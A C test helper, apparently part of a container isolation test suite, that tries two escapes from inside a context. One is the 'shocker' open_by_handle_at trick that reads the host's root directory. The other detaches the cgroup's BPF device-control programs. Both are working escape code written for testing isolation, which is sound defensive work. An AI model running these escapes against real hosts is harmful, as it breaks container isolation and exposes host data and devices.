/*
 * context-escape.c: escape attempts that busybox has no applet for, run
 * by context-isolation.sh from inside a context (built there with
 * gcc -static, copied into the test rootfs).
 *
 *   context-escape handle DIR
 *       open_by_handle_at() the root inode (2) of the file system DIR is
 *       on: with CAP_DAC_READ_SEARCH this reaches the host's tree from a
 *       bind-mounted root ("shocker").  Prints the entries it sees.
 *   context-escape bpf-detach CGROUP2-DIR
 *       detach every BPF device program attached to that cgroup2 group
 *       (the context's own, as seen through a cgroup2 mount inside).
 *
 * Exit 0: the escape worked.  Exit 1: refused (the reason is printed).
 * Exit 2: usage.
 *
 * SPDX-License-Identifier: LGPL-2.1-or-later
 */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>


static int
escapeHandle(const char *dir)
{
    struct {
        struct file_handle fh;
        unsigned int id[2];
    } h;
    struct dirent *e;
    DIR *d;
    int mfd;
    int fd;

    if ((mfd = open(dir, O_RDONLY | O_DIRECTORY)) < 0) {
        printf("open %s: %s\n", dir, strerror(errno));
        return 1;
    }
    /* FILEID_INO32_GEN of inode 2, generation 0: the root of ext2/3/4 */
    h.fh.handle_bytes = sizeof(h.id);
    h.fh.handle_type = 1;
    h.id[0] = 2;
    h.id[1] = 0;
    if ((fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY)) < 0) {
        printf("open_by_handle_at: %s\n", strerror(errno));
        return 1;
    }
    if (!(d = fdopendir(fd))) {
        printf("fdopendir: %s\n", strerror(errno));
        return 1;
    }
    while ((e = readdir(d)))
        printf("%s\n", e->d_name);
    closedir(d);
    return 0;
}


static int
bpf(int cmd, union bpf_attr *attr)
{
    return syscall(__NR_bpf, cmd, attr, sizeof(*attr));
}


static int
escapeBpfDetach(const char *dir)
{
    union bpf_attr attr;
    uint32_t ids[64];
    uint32_t n;
    int cgfd;

    if ((cgfd = open(dir, O_RDONLY | O_DIRECTORY)) < 0) {
        printf("open %s: %s\n", dir, strerror(errno));
        return 1;
    }
    memset(&attr, 0, sizeof(attr));
    attr.query.target_fd = cgfd;
    attr.query.attach_type = BPF_CGROUP_DEVICE;
    attr.query.prog_ids = (uintptr_t)ids;
    attr.query.prog_cnt = 64;
    if (bpf(BPF_PROG_QUERY, &attr) < 0) {
        printf("BPF_PROG_QUERY: %s\n", strerror(errno));
        return 1;
    }
    n = attr.query.prog_cnt;
    printf("%u device program(s) attached\n", n);
    if (n == 0)
        return 1;
    for (uint32_t i = 0; i < n; i++) {
        int pfd;

        memset(&attr, 0, sizeof(attr));
        attr.prog_id = ids[i];
        if ((pfd = bpf(BPF_PROG_GET_FD_BY_ID, &attr)) < 0) {
            printf("BPF_PROG_GET_FD_BY_ID %u: %s\n", ids[i], strerror(errno));
            return 1;
        }
        memset(&attr, 0, sizeof(attr));
        attr.target_fd = cgfd;
        attr.attach_bpf_fd = pfd;
        attr.attach_type = BPF_CGROUP_DEVICE;
        if (bpf(BPF_PROG_DETACH, &attr) < 0) {
            printf("BPF_PROG_DETACH %u: %s\n", ids[i], strerror(errno));
            return 1;
        }
        printf("detached program %u\n", ids[i]);
    }
    return 0;
}


int
main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 3 && strcmp(argv[1], "handle") == 0)
        return escapeHandle(argv[2]);
    if (argc == 3 && strcmp(argv[1], "bpf-detach") == 0)
        return escapeBpfDetach(argv[2]);
    fprintf(stderr, "usage: %s handle DIR | bpf-detach CGROUP2-DIR\n", argv[0]);
    return 2;
}
